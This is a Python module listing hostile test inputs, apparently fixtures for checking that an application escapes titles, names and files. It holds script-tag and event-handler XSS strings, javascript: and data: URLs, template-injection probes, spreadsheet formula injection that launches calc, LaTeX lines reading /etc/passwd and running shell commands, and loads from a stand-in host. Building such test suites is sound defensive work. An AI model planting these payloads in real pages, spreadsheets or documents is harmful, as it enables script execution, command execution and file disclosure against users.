r"""What a hostile title, name or file may hold: each would set ``window.hostile`` if it ran.

After the OWASP cheat sheets on cross-site scripting and CSV injection, RFC 8259, the WHATWG HTML
Standard (13.2, parsing) and Unicode Technical Report 36.
"""

_MARK = "window.hostile=1"

SCRIPTS = (
    f"<script>{_MARK}</script>",
    f"</script><script>{_MARK}</script>",
    f"<ScRiPt >{_MARK}</sCrIpT>",
    f"</title></style></textarea></noscript><script>{_MARK}</script>",
    f'<script type="module">{_MARK}</script>',
    f"<script src=data:text/javascript,{_MARK}></script>",
    "<script src=//hostile.invalid/x.js></script>",
    f"<scr<script>ipt>{_MARK}</scr</script>ipt>",
    f"%3Cscript%3E{_MARK}%3C/script%3E",
    f"&lt;script&gt;{_MARK}&lt;/script&gt;",
    rf"\u003cscript\u003e{_MARK}\u003c/script\u003e",
    f"\uff1cscript\uff1e{_MARK}\uff1c/script\uff1e",
)

HANDLERS = (
    f'<img src=x onerror="{_MARK}">',
    f"<img src=`x` onerror={_MARK}>",
    f'"><img src=x onerror={_MARK}>',
    f"' onmouseover='{_MARK}' x='",
    f'" autofocus onfocus="{_MARK}" x="',
    f"<body onload={_MARK}>",
    f"<svg onload={_MARK}>",
    f"<svg><animate onbegin={_MARK} attributeName=x dur=1s>",
    f"<svg><script>{_MARK}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_MARK}>",
    f"<details open ontoggle={_MARK}>x</details>",
    f"<video><source onerror={_MARK}></video>",
    f"<input onfocus={_MARK} autofocus>",
    f"<marquee onstart={_MARK}>href</marquee>",
    '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>',
    f"<template><img src=x onerror={_MARK}></template>",
    f"<dialog open onclose={_MARK}><form method=dialog><button autofocus></form></dialog>",
)

LOADING = (
    '<iframe src="https://hostile.invalid/"></iframe>',
    '<img src="https://hostile.invalid/pixel.gif">',
    '<link rel=stylesheet href="https://hostile.invalid/x.css">',
    '<meta http-equiv=refresh content="0;url=https://hostile.invalid/">',
    '<base href="https://hostile.invalid/">',
    '<form action="https://hostile.invalid/"><button>send</button></form>',
    "<object data=https://hostile.invalid/x.swf></object>",
    "<a href=https://hostile.invalid/ ping=https://hostile.invalid/p>x</a>",
)

ADDRESSES = (
    f"javascript:{_MARK}",
    f"javascript:{_MARK}//https://example.org",
    f"JaVaScRiPt:{_MARK}",
    f"java\tscript:{_MARK}",
    f"\x01javascript:{_MARK}",
    f"javascript\u200b:{_MARK}",
    f"data:text/html,<script>{_MARK}</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaG9zdGlsZT0xPC9zY3JpcHQ+",
    f"vbscript:{_MARK}",
    "//hostile.invalid/path",
    "https://user:password@hostile.invalid:99999/",
    "file:///etc/passwd",
    f"10.1000/182<script>{_MARK}</script>",
    f'10.1000/"onclick="{_MARK}',
    f"blob:null/{_MARK}",
)

TEMPLATES = (
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7}`${window.hostile=1}`",
    f"{{{{constructor.constructor('{_MARK}')()}}}}",
    "<%= 7*7 %><?php echo 7*7 ?>",
    "{n} {name} {0} %s %(x)s $& $1 $`",
    f"*/{_MARK}/*",
    f"';{_MARK};'",
    f'\\";{_MARK};//',
    f"\u2028{_MARK}\u2029",
    f"\n{_MARK}\r\n",
    f"<!--<script>{_MARK}",
    f"--><script>{_MARK}</script><!--",
    f"]]><script>{_MARK}</script><![CDATA[",
    '"}]}</script>{"a":[{"',
    "}</style><style>*{background:url(https://hostile.invalid/)}",
    "red;background-image:url(https://hostile.invalid/);x:expression(1)",
    "</bdi></li></ul></main></svg></text>",
)

NAMES = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "then",
    "undefined",
    "NaN",
    "-1",
    "app",
    "data-library",
)

TABLES = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("https://hostile.invalid/","x")',
    'a","b"\n"c',
    "@book{x, title = {y}}\n@comment{",
    "TY  - BOOK\nER  - \nTY  - BOOK",
    "\\input{/etc/passwd}\\write18{id}$x_1$%",
)

CHARACTERS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068unclosed",
    "a\x00b",
    "\x1b[31mred\x1b[0m\x07",
    "\ud800 lone \udc00",
    "\ufeff\ufffe\uffff",
    "Z\u0351\u0358\u0334" * 60,
    "\U000e0041\U000e0042 tags",
    "\u3164\u200b\u200c\u200d\u2060",
    "A" * 3_000,
    "слово " * 300,
    "👩‍👩‍👧‍👦" * 40,
    "مرحبا שלום",
    "I\u0307İıß",
)

PAYLOADS = SCRIPTS + HANDLERS + LOADING + ADDRESSES + TEMPLATES + NAMES + TABLES + CHARACTERS
